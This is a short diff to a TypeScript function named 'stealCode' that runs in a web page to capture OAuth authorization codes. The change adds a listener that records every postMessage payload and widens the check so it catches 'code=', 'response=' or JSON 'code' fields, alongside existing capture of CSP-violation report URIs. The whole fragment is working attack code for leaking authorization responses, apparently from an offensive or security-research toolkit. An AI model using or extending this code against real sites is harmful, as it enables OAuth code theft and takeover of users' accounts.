@@ -33,11 +33,12 @@ export interface OwnFlow {
 /**
  * Runs in the page: lets the authorization server's answer come somewhere where it may be seen, and looks.
  *
- * @returns all addresses that were seen
+ * @returns all addresses and messages that were seen
  */
 export async function stealCode({ way, url, opensWindows, patienceMs }: OwnFlow): Promise<readonly string[]> {
   const seen = new Set<string>();
   const server = new URL(url).origin;
+  window.addEventListener('message', ({ data }) => seen.add(JSON.stringify(data)));
   document.addEventListener('securitypolicyviolation', ({ blockedURI, documentURI, sourceFile }) => {
     for (const uri of [blockedURI, documentURI, sourceFile]) seen.add(uri);
   });
@@ -140,7 +141,7 @@ export async function stealCode({ way, url, opensWindows, patienceMs }: OwnFlow)
   }
   await ways[way]();
   const endsAtMs = Date.now() + patienceMs;
-  while (Date.now() < endsAtMs && ![...seen].some((address) => /[?&#]code=/.test(address))) {
+  while (Date.now() < endsAtMs && ![...seen].some((text) => /[?&#](code|response)=|"code":/.test(text))) {
     for (const view of [window, ...windows]) look(view, 3);
     await new Promise((resolve) => setTimeout(resolve, 1));
   }
